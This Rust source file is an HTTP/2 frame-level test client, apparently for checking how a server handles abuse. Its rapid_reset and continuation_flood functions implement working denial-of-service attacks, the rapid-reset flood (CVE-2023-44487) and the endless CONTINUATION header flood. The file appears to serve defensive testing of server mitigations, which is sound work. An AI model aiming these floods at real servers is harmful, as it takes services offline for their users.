//! A frame-level HTTP/2 (h2c prior knowledge) client for abuse cases: one request with chosen
//! headers, the rapid-reset flood (HEADERS + RST_STREAM, CVE-2023-44487) and the CONTINUATION
//! flood (a header block that never ends). HPACK is written by hand with literal fields, no
//! Huffman and no dynamic table, which every decoder must accept.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::time::{Duration, Instant};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const DATA: u8 = 0;
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const GOAWAY: u8 = 7;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut f = (payload.len() as u32).to_be_bytes()[1..].to_vec();
    f.extend_from_slice(&[kind, flags]);
    f.extend_from_slice(&stream.to_be_bytes());
    f.extend_from_slice(payload);
    f
}

/// An HPACK integer with an `n`-bit prefix (RFC 7541 §5.1).
fn integer(mut value: usize, n: u32, first: u8) -> Vec<u8> {
    let max = (1usize << n) - 1;
    if value < max {
        return vec![first | value as u8];
    }
    let mut out = vec![first | max as u8];
    value -= max;
    while value >= 128 {
        out.push((value % 128) as u8 | 0x80);
        value /= 128;
    }
    out.push(value as u8);
    out
}

/// A literal field without indexing, with a literal name.
pub fn field(name: &str, value: &str) -> Vec<u8> {
    let mut out = vec![0];
    out.extend(integer(name.len(), 7, 0));
    out.extend_from_slice(name.as_bytes());
    out.extend(integer(value.len(), 7, 0));
    out.extend_from_slice(value.as_bytes());
    out
}

/// `GET path` to the recorder: `:method GET`, `:scheme http` (indexed), then `:path` and
/// `:authority` as literals with indexed names (static entries 4 and 1).
pub fn request_block(path: &str) -> Vec<u8> {
    let mut out = vec![0x82, 0x86, 0x04];
    out.extend(integer(path.len(), 7, 0));
    out.extend_from_slice(path.as_bytes());
    out.push(0x01);
    out.extend(integer("recorder:9080".len(), 7, 0));
    out.extend_from_slice(b"recorder:9080");
    out
}

/// What the server did with a connection.
#[derive(Debug, Default, Clone)]
pub struct Outcome {
    /// `:status` of the first response (0 when not 200: the tests only tell 200 from others).
    pub status: Option<u16>,
    /// RST_STREAM error codes received.
    pub resets: Vec<u32>,
    /// The GOAWAY error code, if one came.
    pub goaway: Option<u32>,
    /// Whether the server closed the connection.
    pub closed: bool,
    /// Whether the first stream ended (END_STREAM or a reset).
    pub done: bool,
}

impl Outcome {
    /// For tables.
    pub fn summary(&self) -> String {
        let mut parts = Vec::new();
        if let Some(s) = self.status {
            parts.push(if s == 200 { "200".to_string() } else { "non-200 response".to_string() });
        }
        if let Some(code) = self.resets.first() {
            parts.push(format!("RST_STREAM({code})"));
        }
        if let Some(code) = self.goaway {
            parts.push(format!("GOAWAY({code})"));
        }
        if self.closed {
            parts.push("closed".into());
        }
        parts.join(" ")
    }
}

fn connect(addr: SocketAddr) -> Option<TcpStream> {
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(3)).ok()?;
    let mut hello = PREFACE.to_vec();
    hello.extend(frame(SETTINGS, 0, 0, &[]));
    s.write_all(&hello).ok()?;
    Some(s)
}

/// Reads frames for up to `wait` (less once the server closes).
fn read_outcome(s: &mut TcpStream, wait: Duration) -> Outcome {
    let mut out = Outcome::default();
    let (mut buf, deadline) = (Vec::new(), Instant::now() + wait);
    while let Some(left) = deadline.checked_duration_since(Instant::now()).filter(|d| !d.is_zero()) {
        let _ = s.set_read_timeout(Some(left));
        let mut chunk = [0u8; 16 * 1024];
        match s.read(&mut chunk) {
            Ok(0) => {
                out.closed = true;
                break;
            }
            Ok(n) => buf.extend_from_slice(&chunk[..n]),
            Err(e) if matches!(e.kind(), std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut) => break,
            Err(_) => {
                out.closed = true;
                break;
            }
        }
        decode(&buf, &mut out);
        if out.done || out.goaway.is_some() {
            break;
        }
    }
    decode(&buf, &mut out);
    out
}

fn decode(buf: &[u8], out: &mut Outcome) {
    let (mut at, mut status, mut resets, mut goaway, mut done) = (0, None, Vec::new(), None, false);
    while buf.len() >= at + 9 {
        let len = u32::from_be_bytes([0, buf[at], buf[at + 1], buf[at + 2]]) as usize;
        let (kind, flags, payload) = (buf[at + 3], buf[at + 4], buf.get(at + 9..at + 9 + len));
        let Some(p) = payload else { break };
        done |= (kind == DATA || kind == HEADERS) && flags & END_STREAM != 0 || kind == RST_STREAM;
        match kind {
            HEADERS if status.is_none() => status = Some(if p.first() == Some(&0x88) { 200 } else { 0 }),
            RST_STREAM if p.len() >= 4 => resets.push(u32::from_be_bytes([p[0], p[1], p[2], p[3]])),
            GOAWAY if p.len() >= 8 => goaway = Some(u32::from_be_bytes([p[4], p[5], p[6], p[7]])),
            _ => {}
        }
        at += 9 + len;
    }
    (out.status, out.resets, out.goaway, out.done) = (status, resets, goaway, done);
}

/// One request with `extra` header fields (split into CONTINUATION frames past 16 KiB).
pub fn request(addr: SocketAddr, path: &str, extra: &[u8]) -> Outcome {
    let Some(mut s) = connect(addr) else { return Outcome { closed: true, ..Outcome::default() } };
    let mut block = request_block(path);
    block.extend_from_slice(extra);
    let chunks: Vec<&[u8]> = block.chunks(16 * 1024).collect();
    let mut bytes = Vec::new();
    for (i, c) in chunks.iter().enumerate() {
        let last = if i + 1 == chunks.len() { END_HEADERS } else { 0 };
        let (kind, flags) = if i == 0 { (HEADERS, END_STREAM | last) } else { (CONTINUATION, last) };
        bytes.extend(frame(kind, flags, 1, c));
    }
    let _ = s.write_all(&bytes);
    read_outcome(&mut s, Duration::from_millis(1500))
}

/// A flood's result: how much was sent before the server stopped it, and how it did.
#[derive(Debug, Clone)]
pub struct Flood {
    /// Streams (rapid reset) or CONTINUATION frames sent.
    pub sent: usize,
    /// Whether a write failed (the server closed mid-flood).
    pub cut_off: bool,
    /// What the server sent.
    pub outcome: Outcome,
}

/// `n` streams for `path`, each opened and reset at once (CANCEL), written in large batches.
pub fn rapid_reset(addr: SocketAddr, path: &str, n: usize) -> Flood {
    let Some(mut s) = connect(addr) else { return flood_refused() };
    let (mut sent, mut batch, mut cut_off) = (0, Vec::new(), false);
    for i in 0..n {
        let stream = 2 * i as u32 + 1;
        batch.extend(frame(HEADERS, END_STREAM | END_HEADERS, stream, &request_block(path)));
        batch.extend(frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()));
        if batch.len() > 16 * 1024 || i + 1 == n {
            if s.write_all(&batch).is_err() {
                cut_off = true;
                break;
            }
            sent = i + 1;
            batch.clear();
        }
    }
    Flood { sent, cut_off, outcome: read_outcome(&mut s, Duration::from_secs(2)) }
}

/// One HEADERS frame for `path` without END_HEADERS, then up to `frames` CONTINUATION frames
/// of 10 KiB of fields each, never ending the block.
pub fn continuation_flood(addr: SocketAddr, path: &str, frames: usize) -> Flood {
    let Some(mut s) = connect(addr) else { return flood_refused() };
    let mut sent = 0;
    let mut cut_off = s.write_all(&frame(HEADERS, END_STREAM, 1, &request_block(path))).is_err();
    let payload: Vec<u8> = (0..100).flat_map(|_| field("x-flood", &"a".repeat(100))).collect();
    let chunk = frame(CONTINUATION, 0, 1, &payload);
    let _ = s.set_write_timeout(Some(Duration::from_secs(10)));
    while !cut_off && sent < frames {
        cut_off = s.write_all(&chunk).is_err();
        sent += usize::from(!cut_off);
    }
    Flood { sent, cut_off, outcome: read_outcome(&mut s, Duration::from_secs(2)) }
}

fn flood_refused() -> Flood {
    Flood { sent: 0, cut_off: true, outcome: Outcome { closed: true, ..Outcome::default() } }
}
